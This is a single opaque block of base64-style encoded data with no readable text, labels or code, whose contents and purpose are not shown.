rvUs5yobZHwlsIK1U9qgaDsdZE8ltT8EYLkGPIRF5xSQQ6bGFkM3+gaffIIkWS/wJlm63qvu/DfwFj2PLWB4tLq9biXfTau9WTsr0B8iqsao6dpAu4ZBJ+9HEGe2g68mLwTcAx4KTDaT0zPbMzby8xUjUTE4GusG1yfl9uMo48EI+74I3J1TCcAp9rvj8xvCEOxD+xNbxVER3rlNv9Oaw/25Ri0VkPfyAtph9BQ76N9mIOyFBlf3rXOJ46Y1QBjuyJ9E/JAxZXbrxd51QAXnybTJ3aFq+vKD18UnTdQ1glaCUXr9FmyuuO4XKKIOiZmZgkPzN1ewb6n6d7+i2csKhuVBhlFNqK3isQLHJ6uXL5eDWOfjDycq5Do0Qx1x/QK52jp0dTlRCmblgCFVr3MpK4p8arU4SZTGUPMB9NHTKi27gPVLBP++B3+JQbZPuBEdoHXzGONyEhMpY3Tn7wu+kxezggilzJUPtu94NIHp8VAI4G1sW6tFYHvJE4Vb3rWuuFfcbl42onVYmFpPEQmc7hqbvjg0/GoP0tk0p2iRs6g99f3/0cU22DzUQUMs/jvnJwEZ1tZ21GXx/NTxm5oMPiYX8hcPqVU0rIM2pzMMUcyupbOpz8zwqXiFQL5OkC7S/qIOXY8wKyzGzFnqByaRQB2Y6KIjlSlFFUOikAY+mB4nfUZKzJQIk9R7SWgRoYR+0L9z4iLGBrhZClMbG1a69QVZBULexfxPqEgmZugillAJlwhqCVXOZ6bnsTB0sqAGYR7uawAgL63xWcaPgV6tZQvpBnTCxv5ydks6+CaX+YFQ3/gLX4nkHfmabKDh9uJBcgJjcrTkkhFwWQ3wSvo9GspdXc8JpWU3xtfxGNU8rFd8CI5M8j9Q+KfBKUib9O2faS0qHem+LXGOQnvzpRedk5KIYqhDYA3pis5O0/5pvKOdq8v9xbHQ9AYpiQHDumlTGk+3+QNRCl5QKzcZfTPxnCHSG5ZYnJOD7OaqiGMXltrE0nUdcqkRDTSU//VFJo2pY37knHVkE1kYK0jdslejBl5xIDWkCRWN7Y8UeySQ6eoYUytpSjMBKANQYtW+ZTyVkkAfutQXsf4cFuLmJxRSENzPhFxKtmUGOnzzdQnptfe3Hx0+05wcXn9We07WnsYUvAMyXTn5dIZYDPKNMQ3BDrqiNpFlySlkEjDofndg1tN4g94OYWLw/xC/nr97ruleMOM+RyXlGyaoFgtxFVRyWa/2U/DZc5oD5W6FATXpl+lxmK5TqTI9lzWnXK2DH8EVvBedap/GaDNmwKgbIePiaw51ltzCoiXwOKvuc74DSaAobqIVMITAFEZ7M6fA4YCEoHqkcQNRD/nL503BmkRY9XUBILn/it/jMFUUmDqK0fgfPLx6n0RqyB+3K/Lf+yvty/ozixGe5f+HNd2GgzLVNAn9ixeAaj2pDYCF2J3usmU2u2t4ogcC6dLUKOM4QDjQhQet7OX73loe8+9l3BixZ5xoszfvJz/9ERJgok6idiG9LNVzndlL9G5v8xks91jusSUm45DGpoVBaRwpqSScWcNF1ybVNlErG/V4H/2/Qso0gK8OqibdA4F9iPkC0PNkHmZnvx4Jab1H46Nldvyca2MPq1D2ePdOIG+h9Xvygwdm8L6JwQmR8RiXEwsIuszYC/UWqzHZquiusSeTdXw7e2pzgwzR6HHP1Y6G5gtxzdLaiWSxBlRVaeSPE0D/QlMBpctFRlROzs0sTE8nN9fiNvH7OurcaBIEMQ+yUMUiLFElU30nBnXKN8pWXJas3tX+lS2AhnqHas6HR1siOo83f7mY8LB6iNmwKNlJVHqfPb+XEtICR1CLhOwFW87ELvA+UgN7HOZ/Yssf9ObM7BCB2uc1FBqLFM7eGvKsCaxyLCiFDR8DPxy7n3Ynq+9bL6982BXl4/TjTyDesQzA9gQsd0mXE4tQLnvHp+wgYpmFFEXP3BiC4pIjVTcH/DNPUWHimQj+7Qb9L1G9WUEi9sAthC0ZukFjpO686T9HhziO2xaNJbGSeb2U/MkOLDWZlA3SLBhlhgIToIrVW7sTXPpxUbM6y8nARB1ao/LqvnlRFyJ9rqrz2YHWsCEiyw8yrRYFOKFQcCJrqer5aQ5BsZGr22HaxNigxBcyNpQiGsxwvgbne5UpsRsQesgKsaZCIs3i++19dSku1PuOHjNLaJcsLoD/QKgIe8Lk/5GW8n/k3h+dFdaNUUQ6+MtJKvlBsL+iCvoj/RVN4gI1ZvC/ULWdNDnwkLGzExLgFolyBbwDPSytX1rEzJbfi3T3vTRA96ceaMHBN9og9NcA2WWf6CnldNZ8x/FxDBxixqzfBQvX+jZ50nbgZATNK5Cv8qfJ/o7mw0pZ/bG6U3R+BeAWmV1XeBJVINnEv4SLwWVV0X9pdBFrN0xh8wWuzO/z1OBw05S7haIXLXQr4yvIrmyVx52I+ic5gezenJ/ywvzD0psmN8aZXwruGhnSIIF9CFtYCuNaoEawbzCjf2XKJEnUGsWo9n59XUmDbxlvC8K380wxj2YG+MsBRLpjtHbi7KYAxZYZSLkvTE8rz5Sgd9pnzxTRb2vbvFhxcAlW4wFzyAkyTmneVl7Ro6vb65bmg3tSkOi1vi4yjDIHaZcfgyxN+sYkAA0jmITsklEbjOnKUTaI4ciZRa/aBDFZp35zzk99hq873uSAkm94BMwcgY2RYaHSdNq/AS0In+/m4KD4tGdB8b3SXllnsjhWfbZisvUMmal8HajdBSLrktit2zuf3F7HoEX5MN+gMnzW3Dvpl1iaCXrjcHnu+8vH3wB19cFztwkym7MK6LpzkmMFJw9lBWyEtnqDwcyHJgv1cZxKpsf3xxoQ8HEk2xsp5MMu5vaFYZ8Gyadu/7iu46thjA88TalPiW6wGkp//5hs3Sf/Y2DWXDHmWLgKWZRNS3A+70+FbGGT/lqPWsbrUbCjKDoMxmoMR6Gb8N6bUSmtt15g4Ykmjyhj7BneCfihfzIEKoykBFVv7SRgSeoSyrqK8Qh7eeIt30vnygbkrX/ja+8rqUzeTjNa65exgPyA1IrXcvu/igBmjdlIZqDZ1UByVKfGmqKCLGmrLrLsNzBpQlgqjnQtfvzhbor31+vJodBFQ/daKekI1E/XKHCYM11ocPYA6xdiq2ixALDCpS1nZBoVlKeFoaDJR61yxK4n32cZm/lcQE62yAWkdsD8WA0nf02qUPnH6npXjD8qDKUkJ8Ghp0Armj1N1JIjBp3FO4Bx37J5xNWN/dpxAJb9+5ZFFjt6RtQITv6jeztX1rmBG5c40WK3cX+rwxUkUH78I1CIgI1dY+TY3dJqxYbH85PYfiExerr/OLcDUBcNRP5RdbffjmwRTyrL5k/jvU3Aq/dxxuMMiku+tvRjM207v4SLxRzen99Sjsj9sjGQ4o7X4cVMxppOI7MFQiEh1T36Ongyv7EWAEdsQxeW5ImVGxo3qmS9RxvJjifJQ0HNUJHKd0519ges0w5uNNiBG06eVubx6omRNfeM7/hSw8M4iCQ/g5cS1tHjcT6WRnVtXp1npo29Ou1VcVL4o6LDeARh5v/jTcCxbpfTiZ+PoUcvd8L7+vdOW8ctfiDJF/LdC9Q0HYexxVe54H5UlILZNnzrbgxie354wLtoVUSgpCNuANsvNqJthHYcd8WhiqZj8I9sdlbOfmKMUPv2IlZGVcCOxUZIoAn0qFgiqoq398Y3cs0GlWddRS8iNJKsJgTs7TRQro89XdHtOGCXTPAqDbbSE5G5C+ASX9NW60p5I8DktylapJPpijugOeh3Jr5ifZ7rRkVebYNHL2ntzBYAP8VfbToTETKKUsW6J4QDiWCiytl+ORRxVkWo8fDix7PLpNj1vnMZZzM5qOJ/gLTrst9bsqSE8QMajcpnaB/t2KExa1bFBGJwaQ80nRFJfxZTbnA9YMkg+KjyoZmSAAKWG8gjhoIwhpfWXKlbtVyJ2GuDDdNlBPG/r2iN78N1mHb+C3XG5A6qCa7bVQ9UQN/3hS5FXHO2UZj4Hou0PCoGVTASuRjgF4n0xvD+NNTYX772EYAnwChs/QnZZh+awJnmlmjRia+CnK7JV53pXprVdVXUR1OGOfbasq9qvHmvxA7nlnVgiOf90RreJMw3K6rvQpK24Woo7L/YY01pa31ZiHBlT1bXksQSxgUBRX5M3ntIKo2KShVscprTlfEoFzKkYdxcJYVMjcx54sgKwmDwfGN+L13Ec0AGqDHH7TxZ+9T1ByQBGrwWBsAO3BW3Ns1DrPH2lFtP5C3BdQ3mhVm6S+lPCozHJMnHKe7AvdBQ5NJ9f9gIobzwZHXuiqh2Vf9cHFlP7HdiOC+NjqS3cKGgtIfJnf4qs0a/JMBd1pzanhLQ1zyEyvB7ssXYk5jJn/QF5iKnmTtR7HAtL4USq5wnLQXSlkQm2x0HSDMk/Fu+/8OuTyv+Is8kTZR78rUWo9NU/tzcDgjX+TP10u+SuawHCtyzzHZtCVl1OiQCXr4eLbin5hXVrKsdYDI6hNFDanZIftXDCCjxWvy7FDJfHXqqZFFTi4mEmf2XxVhWbrz0giw2gIOi2KPmykaxSz9V6T4IJacaPqAvxVi+hsx1u8heQ6+yX8IjBQR1aribqwEInZLibm7lclJDGKhoM8B20fytvVe9fQ380PTXK/BqHP5wWHJjSCtp6BTm0KCu57edMSp628+F6c6WP8ZGrWdyLPtLkqBA1p+0OIGukbYd2SLZhF8RiyfWM39TFUU5A+toitXKiVAKVH89rVPQKg5PQrzd39ni6sTH3eINo77gC/7JQLcYe/ASzOq/k93Mvft+egfpojQ6PbRjyQumz2K86Y6gzIVLKDZLC4Q9S9TsB7rrdPOTX+FvfiHO+QnjNt1UZ9QCwDOaJJcfL0Rkb/+rRcOgVD3eKUVZWt3jWl4eKpvvjeG285g8dXGY/eTm/TEHB4PFBo8GJCOG17MaYwCnkapWQnziijWnhry1IU55qq9lrtZpGkskFUHX5rI7L0IKZjI7V7PcCInZu1nV9VjXrRoiTTJRHFQFaIjgvbzz6Z0YiydttpTYYTh2SPs7vg6B+EWiL+YCdfbCY08a/jBR3HLcXGx3/p6z6LffyUcNFTVcN/1iB9vzQ146ZpBe9AbBj/AUI3KQPgLmu84EzY77l4nW0EOUi94muhYjOYje4WfK6AykQjQC2IJriCoaO3vM4ScgGDWkKP48CXTvEke8trSVWkP/+ytZIB5NjQ0HF22HeXI6BdXbYGD9wcB0bWTeTWh2Bw9LH+M6tDPNd98XnKisPQw+wLM2HgWLgFTNHnTOrHOiADXdfKLDZGotGoUBLHw/gqXR+E3lruRTsAQx1/EtsN/KiC5FI6MrxqVfQxd7lcTnwI58S2tGtWP5XkP1Kt/Vn+HU8ZzTUyd8q330oXtGKeAqGRRvjV6VNkUrwifB3mpyR7MtsjzsDOPsFn1kcJq6c2LztCAsIF+kQQSleG8Aug7jU+STfWpQuof0Dvhw00rBntPlscCngxDHbMr0Qd19Ae/RlcvBDKtrSGFnOMVNFUlzOJXK6rPcGtOvQFZWpyRPgVb9SagQBs7WYbRyzykxeWyocwMoPHCPkC7+t49+HQ63UoqyB2BmmjXkOwBCtWv0VcgGo2iLGcsLcocR3wwCBvh0hepaOKs0ryEfbwFYYHi7k5OX12PXR+NrdSTHx4wTDSKyEBrzsEvG10Pgef3IL4Crpz145PdviIOD2MEz4lmqsz4PlswqhRpXDLXMY2W0+/gxZBCAZUZ745Y/wMma9B5+u8Ynx04ZpMZAQu/a2FsFRE37975ONinWMphbf2YxpD5Xu1uDNPx5WA3M4WnArgVhSQ5LEujpOjfTsmfv1r1Aa0tQ+hJpOFwlbEkOFfUMzQw+FC9DwjTt0kxFBwFRebFdU7BxVGmhR4USyl9KmEh23N8sssVUOFdBHP3L491m5HJKBDA+BCdiioxuu5+39ufNAsABRcmsSG35bJMHEX0keJ1TLQW+MEDtxqMFG7SRy4nS1SgKlyV5HUQupBz2UfsptWtKFRyFnBbGOOQHfFIfrgMi27V1UaYgIK+K1srsWrgLiDjFqv91Q44A/zWaJ7w6F4EXuDtH1cKuX4xlxaAlUk1DuxwhLE7hM03QJvS23N/I5Ce739CRVQit2N4mNc7oOTe2q0Sye/9hFfEUHXfC3cWx/sdtNNaSYoZfVjEA4/AsYKvasP/wq1PeKvuAdkIxFk+nojJXKGqS/5rn8mq9NXSE/iwmP03YxdEpnbGIETpnSFlHbgvb4wmTlz0YXySbhPxJ141DfQ49O/uWlMYXMeXggUt5IL5i008ARBtup6EMX+IsO1oDAbmzq01BmLrWac47KL0TWtOxfNLglMkkollIZH2ALBPmoxcmnpqJglt0ie3cil2EW45r1B/zPwXWjWvJ8g8wlDiDQ4Gg2amuZbohq83pdujD4m5Eo2BWuUnqeZdiIIEnNRCOOOZdzzqpP24KHrHx4WnwzwmyjPmLO0Nsz+cTNLBD7aFCM0NSOOqoIgq2H7jW6HWLf7ErxrnjGenhnOggwSGxFr74eoQlQapylXyp55N9OIL4/fZMZAALj8Eauatpx0+C+iYhFb+H/rzWYInbX/by+vvPOWKG1Ge5ouRyejldh7aNjFhA255DYYJj/25nzKxbRbgi+mr4rw2rPwO4vRMDHfC722R4oTFSLqQeZZDsrRpmw8aYyY8T8gcK/pG+GoZ48ARC5bXcosSV9DgKkxC74b530ZEiGECTDSPLSqlPVUjJsO3NydsWunYT7y35BwuJCbVJ7d4JH7KXs5zEFCCr3c+QuAv4uPV5NpgeJY8QyTqbPswVC9HBdvcGxpCP8HX0rDEExWwYDkyL3o2Qg9iMwhWHVd2ZTzhRAH+4jL41KGNyme9pZ/meotQtqm3M9m2471qRhM/MQk1Ur2jFcI5MA/mpKBVrEZ44Ah/DSOkmpgCSSTOorZdqvAVHrrumG42409jwDDZ/An3fvHAi3rbyb2wlMitUAw4xHx47LI6aRk37oiLVG2vfLhzCzOSDbzr71/vYkY3KWywNMaV6EGBI4uCRm7wxMCogdGVDYepAXiir3Y/G5sWiZLPyMTOXDx+zcfcgcFDHQ9w+W/6HguquWW2BwgyvdqAaKfRczd9cE5sCchuKrfwdnoVAHeUF7zZ3B130Elk4Urmwh3HA/fYG1sP1xHkPjYUTBfZeeNkdCxO/2757ubQcDNyHuMZEUIsuLUCd+ugbN3jkUsUosD3uBDXo46S5Dbgkqd0MuccV0DpO38AXZsXtOZ5iyacMfKpGp7AYOHf+ZUvNy4eu83THcW82TGB2yJt6AzYKSrMNJ1iZ4eN3mWJO8Nxjz6XmDBjjGcGXLHizHdK0yLO8rYVdLgk+/FPcZw1A05l94jrVvvIXZWZHtshGyfaGaIq9SsrO/fnx5KAByfps5EKWdxNXdBo4ZjlizquSIajbkSBm8jYoF6JwQLc7bRamJ9z/Zbkaslsem2LmmeOOZfQegQVDffQvM8TTBUAS5bPHnR+ftqIF1N7GXJ5eBTl8fchCdCkgJpDu3RF88pgcwXdENL3kf2jTN2HlurHeNhuBjCmJX8nDoXJMV4PDgGNSwOV1yddP54j8mXucd+JfvcYA7eo7IoXsuUR0gxxUGr0Y/dytHYdDK986D2AZESgZe2qBkcKstQ7sBUMBYi/q7B58lbh61a7Wds9//2C8kGMK2Qj7IviSPdnuzfswvTFDb3YQXerp4B0vci16W07tD7aPemUEj0oy7KHvMCJd5G9ncW72v/ob34LviCBpiJwVHPppuXT1PWQXltngQAWGfrp6Bkz9jWjfurS0bgl18Dg7CttfDSnUf3pvlXxKs3aRUzP4a5BYpufTVs+59YQRU2qlvurnfuDphrE0a8Sa3438MubiP5y521kVuC0fGiB4Vpne6s8eSYABd04MYeETNpeokWapr8YKaWd/SQgDGyMGKfHEBsG3j4GnHx8AQOavOmhrjcRmvhlpjdnneP32ukfqzdxn8IP/SID/Z7XGc5XceUIPFyKoJZ6o1o2f2MsFbNcvbc0lmyFjhv+5vwfm18ip5RcttouT7TadPPv5KXMUkGZqrMGSzy9cl1pGkvJAoZq5nfj1D3bg203K5DEb+WKFX1stkMvco2lwnoxJQTZoTVBtL51z/Lr5ENo6l82qjoapjQy+nqiageaRlOUxDPhGIfCPwX3DKP4Mai4ljheUGFljpxNJyHmV6vi0HwGMhQ4f1TNBTPtDdgjG4qPgaPsPitNmQuH+E0tQkwFQ8d2AqGVe0qbqemD9+AppqS9Q76QupmLAaZgyyZEShJehdOkbV5tpwS5auZ5UcA8eqCWT4/DZPxHgvUci0IDrDeLr2LrLVxpoiQXiyzUZ88FUh4GXztM6tvB5dqNNR3yaB0ab2n6lDj/nm9hmb4JH/ni8v5AodyprgfIdGUAYAHjyzU1TgxJ8QSpfQ3GH704E5Cv6Fd/I/tPgF1NXjdANrcV1CJLlTeS3H/Y5brsZ6flO587KjKhBFFKlggT7xg9dpFi5lp+HE3OFWXBLYbT5BKRwP7az/d6jnWGIiq37O13PkUl+ycVtplPSOnYjGzFZAkyOzf6eN/nBrhkHpucjCZ6fAFGE6Fz0Cds4XfhYucgEEij3jQTjUBEjInWN/9mssc3yXqikhw+nGIOX5hPdswO9MtLaPJGaEjwCBv9Q8O2wY29gtj+12RNz6bZ8Nu38awn15Sb3Z8NpO4E8CzNGSGdQ9hKKjp8ecjVLzyKfsUVr9QcZtauivcsZozfPROZQZ6yIvqK1nrGHelOWXwQEGucJXKjqOi+TpZnzW0zj2lCYr/MZ97ESrF1EDLaWghHl1gwOaZ5oqhr4qGwg0YK30FWSRFfumQS9CYrsA4llWHt3UPlrTMrDTlg7huivkbHCpKcASOlxlPndIfR/WRu2hJHJJ4xXxmueDSKIER8cfH6o2EOgr5Qsvx1roZfuKlg5fPdvP1yZexHzdsJDrpdbYgQCT2Rdv2r1+9gJm381Xy4hJfDkuEGRkVkZwqFwvhdHyt79sQGDaM/2lozCJdWmS+ApQpF1UAonI/b8yw948ZBx2z4VNukK5hK22PRj6cHCcI1iYH0BEsmfIX77gV+ZHSBdGNxyuMKckfm9CUKK7euxH+B8ZbJzFgJ2HN7Tf2Z/Ihsw5nDd8bogtivBcwUKTifSYRZP4Ygkd9WrsLO533ozJ8+qAR79lUiQL0SxwC9vMqZj2u9dCIJS9o1CMxHmi+FEJByW89G29KFEDWaS3MIGDc+ZVa877ky40ThaM77mU2Mi7WjKVsPsfPj3E4kk98mmrezC32VYPfAG0YKY/xWFftnvLi9GIqbSk5IO471lehZEk5pHH7aADE0akL4l5GZ4JWAJD9pB/m0xYkEh/uVOZCVAky1nLLQ6YzUyq9mZ6o+3ooey1vuguPmWb1JORU4PQd+yGI+Hp1le+60zJK/kxok3qwoiRSw4d+nIfFSAfc3OD7A5vfdwBgvKTifG/NTNfYaf4LlXw/CFbHIOSmxz8JUmHOrKvJu2NHLEWhl9Zy78IiqbZ7KLce61cUwGLcdVB+XhvNZek13hf517vnWj2cTdusU7GqFXFOlua39t8r8wu1kt8Us4M26XNR2Qi4yb/JJ6bi0fD0EF86w/MmygiHatfwEZ5IUqm3QIkfBKw4s0lQfCJKrrDQyaPon0nbSJSSb/ZmEZWN/LdphWIWtcheRq8AwzJqnPA77nFxI7Fe7nZqNXAeSmsfuLOyjuHnt4pnU4dIViFGpPO2evnx813ohC7/FFhNBJbJYJHjsvIXgBrP/PLB7mY39Hxd/kFy41X/b7svHtV9AoObIQe10fhUbTSCto3iJCJ1+lc0lb1bbTKdRPTs3FHUoaM6/5APmLCPC/8DxP+1I3M/fgmWf0nxR4VICLye14MoEeBnmV6hWCB7nnxxzXX8h3nrYcGdvPROiPqup1pZ/LmP2H5gUvcp6Ny8sITVAqVJlU1iYhUle1sjMHriThQQuqgHtEofoohh2o1OPmWroI7Q5gEcRfgS+zHtPKdlhEpioE+1fVUw1amf3Z40kZvVUSyxAOW2MAHKBTltZxtt2y1kvoqFxcA3UY8UuNORx9517XudFeiaY6FiavJx4nez9Dk01nvXrvl8u6y+nbxVIjZWZl0W9R+7KcVZY/sLZQvOoVLIE4b4z97Gmzv2EsVy153Lp27hOA7HEr/HgjN97JYxolssfRyFHlZDWF5U15iw7qlVa3a10HW2j+4aoDcP/6QqXH65GQGLsbCLfu0VBjZRqh0RvW5V/yQePtgXkCAU60y34vrFe+xoPxRM3hQEWzx8VtZbDBJIrJgOMs2NU6Tq/XQLRfuyAkvmNZ0OJ2c9CYKdvEQClBSSYCho3V0iDN5KsDwwDVKllODqWgISk+WTsTs3v2YO6wmPTFGeOvLHe1d1V2lF6+9bQuHO2EMQXEbL4YNI9QVgC5wSWRfs//GCjo1kezODPDoxUXFTkSdz3WqdkYiWY5zzTawEkddNCOQLxru3hIewpfKV8MxwdUN0d6X42eWbMuBnoAhPsx+wCtU+Ww5AybiWQaqPYiwFvKTEPJsS9POSO1U0fYC7yTW8y3mY0WBeIjPK1JKPpv6+Z1uX/8vvW7qH7fJ+szTv8CBySOsNafu9kuZ8a4b2sHnkvWtXVz10+WZVw4lfurh/DWY/9ThcE9sAPOH9VL17sw3Cui81ngK5R+MLRVUcBbEwGRPTiv2xgZv7JDjwoOIN+ceOq/6kevf/OrJwa8nFdqqjxhLJMWEAK8v7l8ZMS1lPhJ3AKYN43QtYdxONwwH8vozfPW8zQlrTpU7Y6MyVqsledCvqgsAFvaP3YCqEBbCIfLD3ZKNSE4RPv7NQKGUwo6Z6C8mLRoVH3aBYh2iGyX3DRQPvlF/yQI8//xxPB9ItVfq90t/rmvdSxdWrJpJyRsWQlyhE0HdYClGKH1uTkeZIzi4wGCOwrzi/SRSNfgYB/Cp0pwYPwYPKYG/5yqaML8hBGQ99TFo7w7y3oJfun9SZstqPKoQsi2RDJprPtQ+vhyNaiQg3lWb9qsDMV+Uz+Uxoshe+f9Ukn+qT0Zdu3UvIDXoy7Oxh3cbBIrhN+OkVzitVXdt0lVmOCYvLQxstyHDCR2EAhFqMmXbSKa7Y4EcKyXON9cXQ4UEjAXjTpBxrVdu+JDAjmvssR18+fh0y3n71QZ6s++GRoCWGmHNNqo8HeIPMbmmlIKvjZiCAZRQWvV6H7g7puXoWGIge8Rl1fZlashs3OJlw0YcSYqkYfLHPLYs1XlMZYDxDt3WjqeN0j+MSC1YkiOX7fM6NurU/ruW7RpARawqrfh7nrnr/yuRWWjqq+4LEt5s/IsyT/7gxkv8XmDHFulUqhaqP8xWVw7P/zbJGbnmVzBitkDOlk6KJpQ/7dw0JYjsEIm3h6+oEyMDgjeHP09vBgn683GO9AfgQOPAg6yHSAvJ4Z1C4IXyVVusBXJ9OXmFAPa6tRPah8s3LI7SuVh9SY3bLg6hi12tvlFUdgtFZCJoFFKnQUJyiFDDrEndYspV6qgnSf2GiyaVZGYKOPo+JHGvS+Q7f11wkbawDL8nYbxiYnmChsyLt0HiIdJ5EprY8OuEGdutwXHiBzHk/YOtO705mB/519r6fGUun/fs2dMCR7HZep4MT3e88BJ3dr1E1fYE8Go7U1yTnrBrOzNneyzPwdBGxklf66jOtv/TzNzDOzltSVs+RtkRJeqo3tNP5GAaUYlRLQ0cwxuQ160JIRUiC/b/unT/3CioWfNvRxU0jsS3z9mfBv8jOpXWXpn+ZHGYzyR7dN8lFToVIVh7E6azDhdljX1qOCHoZZK+EWurUX6FIJ/641VPUb9uTE12ZOLZQr3YjDb3L7uWGVp4WU7gHTKG5AiM2i2q7yPe4k43ozz7+DW7QvX3TxCG8mWDm61lt+hLWrcWYCtwvO/GwiHX7cxkuypfjxJHfoj0Tz33yhM/ORDb0LY+1FTsjIw72Y6FzWU3J89US114xNJ7zGMr4BprhdAC9wUEFi0uQF7Te1I/dWDuwwfbKvCnAsBCaAWJmema3HOtEwB7Vb3RNSXTYnMLejEE4r1II8Na6wh5FNgbU8BL28UA5l5uOVSLzedm0Y6Md3JwjZx8vWwjfFiT668ISnzb+kriO9yTdeKTaeg+SYGm6F4Tcs/yW/8WeU9MBDGjd6MRJVorDEZL9fD7rl9GkgzTPN+Z3UYnhtN5aTKiil3Cb59NbsdijEwHKC3sqhHmm5fJreAQzC/OPfADLza0bpR0Vvb7zNREayPgB+PkxIaflGaaAa1fcOteEPY6DKv+7l8G1ib/7RIbwhWB3IxOHUs0o7FKa6sKtiFq+4guU3B0zNKU1NiitU/78Z9BEXns34azD7PeZLva7V1wxBRM4XOBbuw+PQKTlcIGarToQ7jAM8FAMnq4ic8FLDYza/fp9EjDLMFG46cnLraYcIqNWcsRPQyj2Tobz5bfriNR4DuPypw/RBvudBnCSkcZecWi0TMxAa/40+d6pCNAXvz8u5fAWycfu75VJPEMX15C6CHFzmVPr74Y4mMFI6W4VzScnWX+WDnl3age2yWf/yqH65WnHf0Og0EPhd3Pt4HLJfPeqfAUpql/cMUKSpSqZjx1Gt48Zv2mUEV+xb4cl9F8VMGv07Rnm8XTvqq/1LNoKxx4HCA4bxShTGWMvQ91XgOPZytJLnhtZVCF1kskl8397awxxd5dHRd2dLGlzHkObi9PJY5R3UeTEchcPZqluSRT0QBThmY/0VCaSprWN9POA3JYV221t5U1ve4WnxZLWD5yX8ehxrdCgOF5Ge7X7WKL1+jKjZFz5fWmjIrOhzSEgtqgYErCndyImvQ81kfJ2l6tNwL+RlF+EBt4/P/UchOqOWwBIfE3FsYkVMG48l70ui3du4ARW4gUHc79nTLrJmxXctYC9lXz4IZl4CQNSgqFofrrIGTupTxzQtS3d/QBTxxB3AxotrxuVVArlG7gpfkfjCZMKaCatQ7F2ePJ/oo4JlkR8P1BCubQQeBk5k+VeW3kZZ3WlNrzZVDUpG8RNsXTxSBd5QiOPh/Ydx4lw5bSkYytV/GQpnHHYrTb9EJEG6Z2Bi+VlTeTXDROm0voBjxovbzF93EO+inY10sPsfs4sqcwC37pKrRxdwb2lcb7/gHj4kiHqJZpH76ZlbIe/9p+fBe/PzerY/mVJaRuQUOaMScDXSP6FYIbFzVVmlc2BUd08pzsM6oOk9NIUCwvjEiShdNpj09gYBqJK6/zTKkp4E6wwIP9KuhOH0YVLohUgX73fIoO7k0BpTWyNdQAIbuypgGMTEM1PwCfxzKhiksZmI4PhbH/JMyJ7IvF66CcsnbHdvVrv6Q6o0wNEIbkNnb6cAwKF+QVqfAGm5jmBz+3twqy87/QEPHIrSJ+eYk3b0E6h5MC87UibaRu/iaaU63kKmFuR2iY8GZiI+qIGkhkrKQlajrSGT3vy8ht6a/xovYNP1+qbDG9HB+J9zItC/H0xx7K6hF8TWx9oTMgqfNFas5D2pQEEbaEDoIZzrZZv4wHq1SNtfW/xKZB7u8+1OGwCQPjxrSdHfaotPvwZ3ip8b0f8hgyvItRx4AadIMqetjCHBaZis7TFhKlYgWpQwbZ9MsySVSwZJmYuv2RYQrGso5SGNUi2mRYzcOsVbNPTc8mBws9Ig1Hpr3nIsMaLl48zOxvnUorU5gRpd+HnlNSR/oIScACxokPozIWpgy+rdcNtw32agpF/IpcHcSFn7q913rbjM4bmKlba+ooReexbYlYSSGUel+FQViyDAe5vkuSyBiEOG54ygfTEG5F8nrA+JuB8vTz7EyuKesATUnPUNwU7hceFwk6qa0Qj40xM97v271LYHnIt4a0nh+L5/24qWjCfIJief0UpMx8RrAAHrSFF+RcAdXBlxrB4WSy5stD2X+ciE6VSYMM/J0L0XvdL10OKY94dfGXIYRS60ou8mum03HBdy+I3NB6H/8aJjP8z+CSIEnkBNbLIrMVE0/Rot//iOdc3YbhaXlmK73Lc2P8rbEhLXaJ5nDEAB/7H1rzceJN4GfRHTd4uvkdyJEW/2SopNyf6F5mPZZrbX3g9KvaOQOYDTTBli4u38OLuT8vkqgBfd1xuFvdGZw76Qq5WtANCtzU/qK6su1EHvY9l3EpFsU99sSNx2v8uXYBtOw495Zqzgj+NR+hpjfVQY2tHFaizadaXZSI7v+KeNv66ysGzOTJb+y2UaY0lPkRscDRXywrsBVvXu8aS9I6gB/eENKtNkA96ji8wmJPi2oW77f9bm+bS9ZbyhWjxusp1joTWyqXmdgbkZH80axGTjP3GmB+tz8ApX8ZsEClTZR00bHVWc4gzZSHvG52XisBBMjfwodt1Ox5SDQug+tMe1NMIwu2ssUu3DdrC1PksjDitmQKL2+kKBKb/Vk/m8jj97tjcrox6gH20BkH+eVM55x8IAY93hKhN48aJZeYSk5+qJTYavbHZJIFrTv9usttXJmF2uUG8F+BIyxfGMXErAyPAp7gZuGEFtW3YqQwLBC+AvC3wbRE9VLYKmN1GMwmxDdPs0ftMjvf3JOjVIhehON7sh0teEYK1PgafM1Lmg15tnUfE5k2wczPAyV7ODzgtbN+TKg/SKn6hZgOaUiOeRNwvTxsWEsEmjgGQjSBcknxRZH996ULnw2HHsFMlnE9OliXKQnbZIASzBCmafs4FNOt7wsLYrPY9i3t7/EkZE/mWHvKsCBI4GzbRnMoE1NANrwj0WRc0gnAtDSguHU1h5x2cU3RJDqPabnQLOaD2FgAAKsmkEvdIagjV67LVvjk/T7HqeFwnrkPFVc2RcDXo6dLarlYiqlL4gccBmGssRTB98llp5IjA2AGVnWe7jYr8VV2KVP564kIxTMDKZE1qLLqgjFW970BkK/gwXJ90aijeh9la6zTnxbujC1gnP7dG4m9nn4ajckttjWYDndrfgdc7INJRIp8lyfv6izmWFZmeUdX1Q4PEfKy5S1V/ueIUnDvXCRNiTQFy5cmBx/bqajuoMQjuAzZoclS65b/oAXebmfk4RM9Za5cU4siooWaSTKhOpBA8kuyp5ofOrCiEmoWPash+6OMy6+kdB+IHqUkn+p0JLvnVDgD6P7mM/fgjfSb0JXIc+NWk4IOAHGB7iUMs3Al6tM/t2a6LZISnKf7wNKVnx3okAIJgktTak4dyyshPLvkcRO63L9p9MXv4ZO0KgxxQ8LunCoZFgTuXLYQVPPRkv0C9cIrIeacFeuLM0FX81QDAJcUxtn4XFhSLHiKRjI343AttLWcp6q/a4ADYORkvFPqsP59MdLu3Dq1Pe13GOItZP53WRVl81kygI1oimC91h4EhUm3Bg1OG0DbDsjR3ZzyqYxXzfqYoy6ihLPrj9ZRKcjuUvduNguhQ/gXfjEufAAqQcQH2vCPb7rk8ANEZZmAJEpDDDKy+FhX8S06oM9VHHIvkJ3bvmPOYaAz/AkQBAN5S5LN8oWBY5MjiNBYyTfGJldH5WxTEPKfzCCbPlCLxKbLeGCXjDekxS3ONZMp1DOdHreWCPkV3iRocqTLb2zKsKTfqSkc8bLNrSFvcuj664aRUsPFSzEmpHuJMJBy3KC1EQoSYM4rWG3ZrSqTiKzvs39xYl1sqLTablTkt4dJlwkSyaDh5baML5h3gdPXqGwuIb/gsZ0PwWFnQIAgib3XtDM+2LYFRwVyIfa+ZftoJjf06jLC